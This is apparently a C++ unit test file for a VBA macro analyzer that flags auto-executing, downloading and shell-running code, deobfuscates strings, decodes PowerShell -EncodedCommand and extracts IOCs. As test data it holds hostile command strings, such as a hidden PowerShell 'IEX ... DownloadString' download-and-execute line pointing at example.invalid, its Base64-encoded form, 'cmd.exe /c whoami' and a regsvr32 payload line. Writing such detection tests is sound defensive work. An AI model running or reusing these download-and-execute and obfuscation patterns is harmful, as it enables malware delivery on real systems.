// Tests the VBA source analysis of the document analyzer: mraptor parity (quirks included, expected
// flags checked against oletools' regexes run by Python's re), editor view, keyword classes, the
// string deobfuscator (with its recursion cap and deadline), PowerShell -EncodedCommand and IOCs.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <string>
#include <vector>

#include "analyzers/document/vba_scan.hpp"
#include "emoguard/text.hpp"
#include "known_bugs.hpp"
#include "office_builders.hpp"

namespace emoguard::analyzers::document {
namespace {

using namespace std::literals;
using emoguard::testing::utf8_to_utf16le;

std::string flags(const std::vector<std::string>& modules) { return mraptor(modules).str(); }

std::string encoded(std::string_view command) {
  const std::string u16 = utf8_to_utf16le(command);
  return text::base64_encode(ByteView(std::string_view(u16)));
}

const auto kFuture = std::chrono::steady_clock::now() + std::chrono::hours(1);

std::vector<std::string> values(const std::vector<Decoded>& d, std::string_view how = {}) {
  std::vector<std::string> out;
  for (const auto& x : d) {
    if (how.empty() || x.how == how) out.push_back(x.value);
  }
  return out;
}
bool contains(const std::vector<std::string>& v, std::string_view s) { return std::find(v.begin(), v.end(), s) != v.end(); }
std::string dump(const std::vector<Decoded>& d) {
  std::string s;
  for (const auto& x : d) s += "[" + x.how + "] " + x.value + "\n";
  return s;
}

// ------------------------------------------------------------------ mraptor

TEST(Mraptor, PlainCodeHasNoFlags) {
  EXPECT_EQ(flags({"Sub Foo()\r\n  x = 1\r\nEnd Sub"}), "---");
  EXPECT_FALSE(mraptor({"Sub Foo()\r\n  x = 1\r\nEnd Sub"}).suspicious());
  EXPECT_EQ(flags({}), "---");
}

TEST(Mraptor, AutoExecQuirks) {
  EXPECT_EQ(flags({"Private Sub Document_Open()\nEnd Sub"}), "A--");
  EXPECT_EQ(flags({"Sub Auto_Opener()\nEnd Sub"}), "A--");  // no trailing \b after Auto_?Open
  EXPECT_EQ(flags({"Sub Btn_Clicked()\nEnd Sub"}), "A--");   // nor after \w+_Click
  EXPECT_EQ(flags({"Sub AutoOpenX()\nEnd Sub"}), "A--");
  EXPECT_EQ(flags({"Sub xAutoOpen()\nEnd Sub"}), "---");     // but a leading \b
  EXPECT_EQ(flags({"x = yAuto_Ope + 1"}), "A--");            // "|Auto_Ope\b" has no leading \b
  EXPECT_EQ(flags({"Sub MyAuto_Open()\nEnd Sub"}), "---");   // ... and a trailing one
  EXPECT_EQ(flags({"Sub \xC3\xA9" "AutoOpen()"}), "---");    // é is a word character for Python's \b
  EXPECT_EQ(flags({"Sub データ_Click()"}), "A--");
  EXPECT_EQ(flags({"x = Auto", "Open"}), "---");             // modules are joined with a newline
}

TEST(Mraptor, WriteFlags) {
  EXPECT_EQ(flags({"Open \"C:\\x.bin\" For Binary As #1"}), "-W-");
  EXPECT_EQ(flags({"Open \"x\"\nFor Binary As #1"}), "---");  // the pair must be on one line
  EXPECT_EQ(flags({"Open Binary"}), "-W-");
  EXPECT_EQ(flags({"Opened = Write"}), "---");
  EXPECT_EQ(flags({"x.Open \"GET\", url"}), "---");
  EXPECT_EQ(flags({"URLDownloadToFileA 0"}), "-W-");
  EXPECT_EQ(flags({"ADODB.Streamer"}), "---");
  EXPECT_EQ(flags({"Set s = CreateObject(\"ADODB.Stream\")"}), "-WX");
}

TEST(Mraptor, ExecuteFlags) {
  EXPECT_EQ(flags({"Private Declare PtrSafe Function X Lib \"kernel32\" ()"}), "--X");
  EXPECT_EQ(flags({"Application.Run \"x\""}), "--X");
  EXPECT_EQ(flags({"Dim Shellfish"}), "---");
  EXPECT_EQ(flags({"Private Declare PtrSafe Function X\r\n Lib \"kernel32\" ()"}), "---");
}

TEST(Mraptor, LineContinuationsAreFolded) {
  EXPECT_EQ(flags({"Private Declare PtrSafe Function X _\r\n Lib \"kernel32\" ()"}), "--X");
  EXPECT_EQ(flags({"Private Declare PtrSafe Function X _\n Lib \"kernel32\" ()"}), "--X");
  EXPECT_EQ(flags({"Private Declare PtrSafe Function X _\r Lib \"kernel32\" ()"}), "--X");
  EXPECT_EQ(fold_continuations("a _\r\nb _\nc _\rd"), "a b c d");
  EXPECT_EQ(fold_continuations("x_\r\ny"), "x_\r\ny");        // needs the space
  EXPECT_EQ(fold_continuations("a _ b\r\n"), "a _ b\r\n");    // not at a line end
  EXPECT_EQ(fold_continuations(" _"), " _");
}

TEST(Mraptor, SuspiciousAcrossModules) {
  const auto f = mraptor({"Sub AutoOpen()\nEnd Sub", "Sub X()\nShell \"calc\"\nEnd Sub"});
  EXPECT_EQ(f.str(), "A-X");
  EXPECT_TRUE(f.suspicious());
  EXPECT_FALSE(mraptor({"Sub AutoOpen()\nEnd Sub"}).suspicious());
  EXPECT_FALSE(mraptor({"Shell \"calc\""}).suspicious());
}

// ------------------------------------------------------------------ editor view

TEST(EditorView, DropsAttributeLinesOnly) {
  const std::string src =
      "Attribute VB_Name = \"Module1\"\r\n"
      "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n"
      "Sub X()\r\n"
      "  ' Attribute in a comment stays\r\n"
      "  Attribute = 1\r\n"
      "Attributes = 2\r\n"
      "End Sub\r\n"
      "Attribute X.VB_ProcData.VB_Invoke_Func = \" \\n14\"";
  EXPECT_EQ(editor_view(src),
            "Sub X()\r\n"
            "  ' Attribute in a comment stays\r\n"
            "  Attribute = 1\r\n"
            "Attributes = 2\r\n"
            "End Sub\r\n");
  EXPECT_EQ(editor_view(""), "");
  EXPECT_EQ(editor_view("Attribute VB_Name = \"M\"\n"), "");
  EXPECT_EQ(editor_view("Sub A()\nEnd Sub"), "Sub A()\nEnd Sub");
}

// ------------------------------------------------------------------ keyword classes

std::string klass(const std::vector<Hit>& hits, std::string_view keyword) {
  for (const auto& h : hits) {
    if (h.keyword == keyword) return h.klass;
  }
  return "";
}

TEST(Keywords, Classes) {
  const std::string code =
      "Sub Document_Open()\n"
      "  Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\n"
      "  s = \"powershell -w hidden\" & Chr(32)\n"
      "  Shell \"cmd.exe /c whoami\", vbHide\n"
      "  URLDownloadToFileA 0, u, p, 0, 0\n"
      "  Set st = CreateObject(\"ADODB.Stream\")\n"
      "  ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"x\"\n"
      "End Sub\n"
      "Sub CommandButton1_Click()\nEnd Sub\n";
  const auto hits = keyword_hits(code);
  EXPECT_EQ(klass(hits, "Document_Open"), "autoexec");
  EXPECT_EQ(klass(hits, "winmgmts"), "wmi");
  EXPECT_EQ(klass(hits, "Win32_Process"), "wmi");
  EXPECT_EQ(klass(hits, "powershell"), "powershell");
  EXPECT_EQ(klass(hits, "Chr"), "obfuscation");
  EXPECT_EQ(klass(hits, "Shell"), "execute");
  EXPECT_EQ(klass(hits, "cmd.exe"), "shell");
  EXPECT_EQ(klass(hits, "vbHide"), "hide");
  EXPECT_EQ(klass(hits, "URLDownloadToFileA"), "download");
  EXPECT_EQ(klass(hits, "ADODB.Stream"), "write");
  EXPECT_EQ(klass(hits, "CreateObject"), "execute");
  EXPECT_EQ(klass(hits, "GetObject"), "execute");
  EXPECT_EQ(klass(hits, "VBProject"), "selfmodify");
  EXPECT_EQ(klass(hits, "AddFromString"), "selfmodify");
  EXPECT_EQ(klass(hits, "CommandButton1_Click"), "autoexec_weak");
  // Each keyword once.
  for (const auto& h : hits) {
    EXPECT_EQ(std::count_if(hits.begin(), hits.end(), [&](const Hit& o) { return o.keyword == h.keyword; }), 1) << h.keyword;
  }
}

TEST(Keywords, WholeWordsCaseInsensitive) {
  const auto hits = keyword_hits("Dim Shellfish, MyChr, wscripted\nPOWERSHELL\nsub workbook_open()");
  EXPECT_EQ(klass(hits, "Shell"), "");
  EXPECT_EQ(klass(hits, "Chr"), "");
  EXPECT_EQ(klass(hits, "wscript"), "");
  EXPECT_EQ(klass(hits, "powershell"), "powershell");
  EXPECT_EQ(klass(hits, "Workbook_Open"), "autoexec");
  EXPECT_TRUE(keyword_hits("Sub Foo()\n  x = 1\nEnd Sub").empty());
}

TEST(Keywords, CalculateIsStrongAControlEventIsWeak) {
  const auto hits = keyword_hits("Sub Worksheet_Calculate()\nEnd Sub\nSub List1_Change()\nEnd Sub");
  EXPECT_EQ(klass(hits, "Worksheet_Calculate"), "autoexec");
  EXPECT_EQ(klass(hits, "List1_Change"), "autoexec_weak");
}

// ------------------------------------------------------------------ deobfuscation

TEST(Deobfuscate, ChrConcatenation) {
  const auto d = deobfuscate("s = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58)\n", kFuture);
  EXPECT_TRUE(contains(values(d, "string expression"), "http:")) << dump(d);
}

TEST(Deobfuscate, ChrWAndHexAndOctalNumbers) {
  const auto d = deobfuscate("s = ChrW(&H70) & ChrW(&H6F) & ChrW(&h77) & Chr$(&O145) & ChrB(114) & Chr(65&)\n", kFuture);
  EXPECT_TRUE(contains(values(d), "powerA")) << dump(d);
}

TEST(Deobfuscate, StringFunctions) {
  const std::string code =
      "a = StrReverse(\"llehsrewop\")\n"
      "b = Replace(\"pXXowXXershXXell\", \"XX\", \"\")\n"
      "c = Mid(\"zzpowershellzz\", 3, 10)\n"
      "d = Left(\"powershellzz\", 10)\n"
      "e = Right(\"zzpowershell\", 10)\n"
      "f = UCase(\"cmd.exe\") & LCase(\" /C\")\n"
      "g = Trim(\"   wscript  \") & \".exe\"\n";
  const auto d = deobfuscate(code, kFuture);
  const auto v = values(d, "string expression");
  EXPECT_EQ(std::count(v.begin(), v.end(), "powershell"), 1) << dump(d);  // reported once
  EXPECT_TRUE(contains(v, "CMD.EXE /c")) << dump(d);
  EXPECT_TRUE(contains(v, "wscript.exe")) << dump(d);
}

TEST(Deobfuscate, VariablesWithSelfAppend) {
  const std::string code =
      "Dim x As String\n"
      "x = \"pow\"\n"
      "x = x & \"ersh\"\n"
      "x = x & \"ell -nop\"\n"
      "Shell x, 0\n";
  const auto d = deobfuscate(code, kFuture);
  EXPECT_TRUE(contains(values(d), "powershell -nop")) << dump(d);
}

TEST(Deobfuscate, NestedParentheses) {
  const auto d = deobfuscate("y = (((\"ab\") & (\"cd\")) & (\"ef\" & (Chr(103) & \"h\")))\n", kFuture);
  EXPECT_TRUE(contains(values(d), "abcdefgh")) << dump(d);
}

TEST(Deobfuscate, ManyParenthesisedTermsInOneExpression) {
  // 80 parenthesised terms side by side: nesting depth 1, so a depth cap must not refuse it.
  std::string code = "z = ";
  std::string want;
  for (int i = 0; i < 80; ++i) {
    if (i) code += " & ";
    code += "(Chr(" + std::to_string(65 + i % 26) + "))";
    want += static_cast<char>(65 + i % 26);
  }
  const auto d = deobfuscate(code + "\n", kFuture);
  EXPECT_FALSE(!contains(values(d), want)) << "regression of a fixed bug: vba_scan.cpp Evaluator::primary() increments depth_ for every '(' and never decrements "
                    "it, so an expression with more than 64 parenthesised terms is not evaluated even at nesting depth 1";
  SUCCEED();
}

TEST(Deobfuscate, ParenthesisBombIsCapped) {
  std::string bomb = "q = " + std::string(10000, '(') + "\"a\"" + std::string(10000, ')') + "\n";
  const auto d = deobfuscate(bomb + "w = Chr(65) & Chr(66) & Chr(67) & Chr(68)\n", kFuture);
  EXPECT_TRUE(contains(values(d), "ABCD")) << dump(d);  // the scan goes on after it
  const auto e = deobfuscate(std::string(100000, '('), kFuture);
  EXPECT_TRUE(e.empty());
}

TEST(Deobfuscate, UnaryMinusChainDoesNotOverflowTheStack) {
  // Unary minus recurses without the depth cap that parentheses have: a VBA line of a million
  // "-" (1 MB of source) must not exhaust the stack. Run in a child so that a crash is contained.
  const int code = emoguard::testing::exit_code_in_child([] {
    const auto d = deobfuscate("q = " + std::string(1'000'000, '-') + "1\nw = Chr(65) & Chr(66) & Chr(67) & Chr(68)\n", kFuture);
    return contains(values(d), "ABCD") ? 0 : 3;
  });
  ASSERT_NE(code, -2) << "fork/waitpid failed";
  EXPECT_FALSE(code == -1) << "regression of a fixed bug: vba_scan.cpp Evaluator::unary() recurses once per '-' with no depth cap; a long chain of "
                    "unary minus signs overflows the stack (SIGSEGV) in deobfuscate(), and so in the document analyzer";
  EXPECT_EQ(code, 0);  // and the statement after it is still decoded
}

TEST(Deobfuscate, PastDeadlineReturnsEarly) {
  std::string code;
  for (int i = 0; i < 5000; ++i) code += "v" + std::to_string(i) + " = \"item" + std::to_string(i) + "\" & Chr(65)\n";
  const auto full = deobfuscate(code, kFuture);
  EXPECT_EQ(full.size(), 5000u);
  const auto past = deobfuscate(code, std::chrono::steady_clock::now() - std::chrono::seconds(1));
  EXPECT_LT(past.size(), 300u);  // stops at the first deadline check (every 256 statements)
}

TEST(Deobfuscate, Base64Layer) {
  const auto d = deobfuscate("u = \"aHR0cDovL2V4YW1wbGUuaW52YWxpZC9wYXlsb2FkLmV4ZQ==\"\n", kFuture);
  EXPECT_TRUE(contains(values(d, "Base64"), "http://example.invalid/payload.exe")) << dump(d);
  // Short or non-text Base64 is not reported.
  EXPECT_TRUE(values(deobfuscate("u = \"aGVsbG8=\"\n", kFuture), "Base64").empty());
  EXPECT_TRUE(values(deobfuscate("u = \"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"\n", kFuture), "Base64").empty());
}

TEST(Deobfuscate, PowerShellEncodedCommandInALiteral) {
  const std::string cmd = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";
  // A literal used directly (a variable reference would make it a computed string).
  const auto d = deobfuscate("Shell \"powershell -w hidden -enc " + encoded(cmd) + "\", 0\n", kFuture);
  EXPECT_TRUE(contains(values(d, "PowerShell -EncodedCommand"), cmd)) << dump(d);
}

TEST(Deobfuscate, PowerShellEncodedCommandInAComputedString) {
  // The Emotet shape: the command line is built by concatenation, then decoded layer by layer.
  ASSERT_FALSE(emoguard::testing::deobfuscate_layer_crashes()) << emoguard::testing::kLayerBug;
  const std::string cmd = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";
  const auto d = deobfuscate(emoguard::testing::powershell_layer_code(cmd), kFuture);
  EXPECT_TRUE(contains(values(d, "string expression"), "powershell -w hidden -enc " + encoded(cmd))) << dump(d);
  EXPECT_TRUE(contains(values(d, "PowerShell -EncodedCommand"), cmd)) << dump(d);
}

TEST(Deobfuscate, ManyComputedLayers) {
  // Many computed strings that each decode to a layer: the result list grows (reallocates) while
  // the layers are being added.
  ASSERT_FALSE(emoguard::testing::deobfuscate_layer_crashes()) << emoguard::testing::kLayerBug;
  std::string code;
  for (int i = 0; i < 40; ++i) {
    code += "c" + std::to_string(i) + " = \"powershell -enc \" & \"" + encoded("Write-Output 'layer number " + std::to_string(i) + "'") + "\"\n";
  }
  const auto d = deobfuscate(code, kFuture);
  EXPECT_EQ(values(d, "PowerShell -EncodedCommand").size(), 40u) << dump(d);
}

TEST(Deobfuscate, NothingFromPlainCode) {
  EXPECT_TRUE(deobfuscate("Sub A()\n  x = 1 + 2\n  MsgBox \"hello world\"\nEnd Sub\n", kFuture).empty());
  EXPECT_TRUE(deobfuscate("", kFuture).empty());
  // Unterminated strings, stray operators and unknown functions do not stop it.
  EXPECT_NO_FATAL_FAILURE((void)deobfuscate("x = \"abc\ny = & & ( ) Foo(1,\nz = Chr(-5) & Chr(99999999) & Mid(\"a\", -1)\n", kFuture));
}

// ------------------------------------------------------------------ PowerShell -EncodedCommand

TEST(PowerShell, EncodedCommandSpellings) {
  const std::string cmd = "Start-Process calc.exe; Write-Output 'example.invalid'";
  const std::string b64 = encoded(cmd);
  for (const std::string& flag : {"-EncodedCommand"s, "-encodedcommand"s, "-enc"s, "-ENC"s, "-e"s, "-ec"s, "/enc"s, "/e"s, "-EncodedC"s,
                                  "\xE2\x80\x93" "enc"s}) {
    EXPECT_EQ(powershell_encoded_command("powershell.exe -NoP -NonI -W Hidden " + flag + " " + b64), cmd) << flag;
  }
  EXPECT_EQ(powershell_encoded_command("powershell -enc \"" + b64 + "\""), cmd);
  EXPECT_EQ(powershell_encoded_command("powershell -Exec Bypass -Enc " + b64), cmd);
}

TEST(PowerShell, NotAnEncodedCommand) {
  const std::string b64 = encoded("IEX ('hi from example.invalid')");
  EXPECT_EQ(powershell_encoded_command("powershell -ExecutionPolicy " + b64), "");
  EXPECT_EQ(powershell_encoded_command("powershell -ex " + b64), "");
  EXPECT_EQ(powershell_encoded_command("powershell -exec " + b64), "");
  EXPECT_EQ(powershell_encoded_command("powershell -EncodedArguments " + b64), "");
  EXPECT_EQ(powershell_encoded_command("powershell x-enc " + b64), "");
  EXPECT_EQ(powershell_encoded_command("powershell -enc abc"), "");
  EXPECT_EQ(powershell_encoded_command("powershell -command whoami"), "");
  EXPECT_EQ(powershell_encoded_command("powershell -enc "), "");
  EXPECT_EQ(powershell_encoded_command(""), "");
  // Base64 of non-text bytes.
  EXPECT_EQ(powershell_encoded_command("powershell -enc AAAAAAAAAAAAAAAAAAAAAAAA"), "");
}

// ------------------------------------------------------------------ IOCs

std::vector<std::string> iocs(std::string_view text, std::string_view kind) {
  std::vector<std::string> out;
  for (const auto& i : find_iocs(text)) {
    if (i.kind == kind) out.push_back(i.value);
  }
  return out;
}

TEST(Iocs, Urls) {
  const std::string t =
      "u = \"http://example.invalid/a.exe\"\n"
      "v = \"https://example.invalid:8080/p?x=1&y=2\"\n"
      "w = 'ftp://files.example.invalid/x.zip'.\n"
      "xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"\n"
      "ns=\"http://schemas.microsoft.com/office/2006/xmlns\"\n"
      "z = \"xhttp://nothere.invalid/\"\n"
      "dup http://example.invalid/a.exe\n";
  EXPECT_EQ(iocs(t, "url"), (std::vector<std::string>{"http://example.invalid/a.exe", "https://example.invalid:8080/p?x=1&y=2",
                                                     "ftp://files.example.invalid/x.zip"}));
}

TEST(Iocs, Ipv4) {
  EXPECT_EQ(iocs("connect 192.0.2.10 now", "ip"), std::vector<std::string>{"192.0.2.10"});
  EXPECT_EQ(iocs("http://198.51.100.7:8080/x", "ip"), std::vector<std::string>{"198.51.100.7"});
  EXPECT_TRUE(iocs("999.1.1.1", "ip").empty());
  EXPECT_TRUE(iocs("10.0.0.256", "ip").empty());
  EXPECT_TRUE(iocs("version 1.2.3.4.5", "ip").empty());
  EXPECT_TRUE(iocs("v1.2.3.4", "ip").empty());
  EXPECT_TRUE(iocs("1.2.3", "ip").empty());
  EXPECT_TRUE(iocs("1234.1.1.1", "ip").empty());
  EXPECT_EQ(iocs("a=0.0.0.0;b=255.255.255.255", "ip"), (std::vector<std::string>{"0.0.0.0", "255.255.255.255"}));
}

TEST(Iocs, ExecutableNames) {
  const auto v = iocs("Shell \"regsvr32 C:\\Users\\Public\\payload.dll\" & run.ps1 & Update-Agent.EXE, notes.txt, a.exec, x.js", "executable");
  EXPECT_EQ(v, (std::vector<std::string>{"payload.dll", "run.ps1", "Update-Agent.EXE", "x.js"}));
  EXPECT_TRUE(iocs("file.txt image.png document.docx", "executable").empty());
}

TEST(FindIocsMore, IpAtTheEndOfASentence) {
  const auto iocs = find_iocs("The payload came from 192.0.2.1. Then it stopped; not 1.2.3.4.5");
  std::vector<std::string> ips;
  for (const auto& i : iocs) {
    if (i.kind == "ip") ips.push_back(i.value);
  }
  EXPECT_EQ(ips, (std::vector<std::string>{"192.0.2.1"}));
}

TEST(DeobfuscateMore, VariableReferenceAloneIsNotReportedTwice) {
  // x is a plain literal; y = x computes nothing, so only real computations are "decoded".
  const auto d = deobfuscate("x = \"hello world\"\ny = x\nz = x & \"!\"\n", kFuture);
  std::vector<std::string> v = values(d);
  EXPECT_EQ(std::count(v.begin(), v.end(), "hello world"), 0) << dump(d);
  EXPECT_EQ(std::count(v.begin(), v.end(), "hello world!"), 1) << dump(d);
}

}  // namespace
}  // namespace emoguard::analyzers::document
